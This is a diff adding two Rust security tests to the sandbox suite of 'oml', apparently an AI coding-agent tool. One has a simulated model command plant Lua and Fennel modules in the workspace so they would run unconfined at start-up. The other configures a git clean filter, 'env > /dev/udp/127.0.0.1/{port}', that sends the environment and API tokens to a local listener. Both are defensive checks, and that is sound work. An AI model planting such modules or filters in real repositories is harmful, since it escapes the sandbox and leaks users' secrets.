@@ -120,3 +120,86 @@ fn the_write_tool_asks_before_writing_where_oml_or_git_load_code_from() {
         assert!(!t.env.project.join(path).exists(), "{path} was written");
     }
 }
+
+#[test]
+fn a_module_a_command_writes_into_the_workspace_is_not_required_from_there() {
+    let Some(_) = landlock_or_skip() else { return };
+    let t = Target::new();
+    // An init file that tries an optional module: Lua's `./?.lua` would find one a command put
+    // in the workspace, and run it unconfined at the next start.
+    t.env.init("(pcall require :mytools-local)");
+    let marker = t.outside.join("ran-from-the-workspace");
+    let command = format!(
+        "printf 'io.open([[{}]], [[w]]):write([[x]]) return {{}}' > mytools-local.lua; \
+         printf '(io.open [[{}]] :w)' > mytools-local.fnl; echo planted",
+        marker.display(),
+        marker.display()
+    );
+    let (run, result) = t.model_runs(&command, &[]);
+    assert_eq!(run.code, 0, "{run:?}");
+    assert!(result.contains("planted"), "{result}");
+    let run = Run::from(t.command(None, &["eval", "1"]).output().expect("oml"));
+    assert_eq!(run.code, 0, "{run:?}");
+    assert!(
+        !marker.exists(),
+        "a module in the workspace ran at start-up"
+    );
+}
+
+#[test]
+fn omls_git_status_gives_a_repositorys_filter_no_secret() {
+    let Some(_) = landlock_or_skip() else { return };
+    let t = Target::new();
+    git_init(&t);
+    // A clean filter that sends its environment out (UDP is not a Landlock right) and then
+    // passes the file through; a touched file makes git status run it.
+    let listener = std::net::UdpSocket::bind("127.0.0.1:0").expect("udp");
+    listener
+        .set_read_timeout(Some(std::time::Duration::from_millis(500)))
+        .expect("timeout");
+    let port = listener.local_addr().expect("addr").port();
+    let git = |args: &[&str]| {
+        let ok = Command::new("git")
+            .args(args)
+            .current_dir(&t.env.project)
+            .status()
+            .is_ok_and(|s| s.success());
+        assert!(ok, "git {args:?}");
+    };
+    std::fs::write(t.env.project.join(".gitattributes"), "a.txt filter=leak\n").expect("attrs");
+    std::fs::write(t.env.project.join("a.txt"), "x\n").expect("file");
+    let filter = format!("bash -c 'env > /dev/udp/127.0.0.1/{port}; cat'");
+    git(&["config", "filter.leak.clean", &filter]);
+    git(&["add", "a.txt", ".gitattributes"]);
+    // Newer times than the index: status hashes the file again through the filter.
+    std::thread::sleep(std::time::Duration::from_millis(1100));
+    std::fs::write(t.env.project.join("a.txt"), "x\n").expect("touch");
+    // What `git add` itself sent (the test's own environment) is not oml's.
+    let _ = received(&listener);
+    let fake = FakeModel::start([Reply::Stream(text_chunks(&["hello"]))]);
+    let run = Run::from(
+        t.command(Some(&fake), &["-p", "hi"])
+            .env("OML_TEST_SECRET_TOKEN", "sk-leaked-by-a-filter")
+            .output()
+            .expect("oml"),
+    );
+    assert_eq!(run.code, 0, "{run:?}");
+    let got = received(&listener);
+    assert!(
+        got.contains("PATH="),
+        "the filter ran under oml's git status: {got:?}"
+    );
+    for secret in ["test-key", "sk-leaked-by-a-filter"] {
+        assert!(!got.contains(secret), "the filter got {secret}: {got}");
+    }
+}
+
+/// Every datagram that arrives on `listener` until it is quiet for its read timeout, as text.
+fn received(listener: &std::net::UdpSocket) -> String {
+    let mut got = Vec::new();
+    let mut buf = [0u8; 65536];
+    while let Ok(n) = listener.recv(&mut buf) {
+        got.extend_from_slice(&buf[..n]);
+    }
+    String::from_utf8_lossy(&got).into_owned()
+}
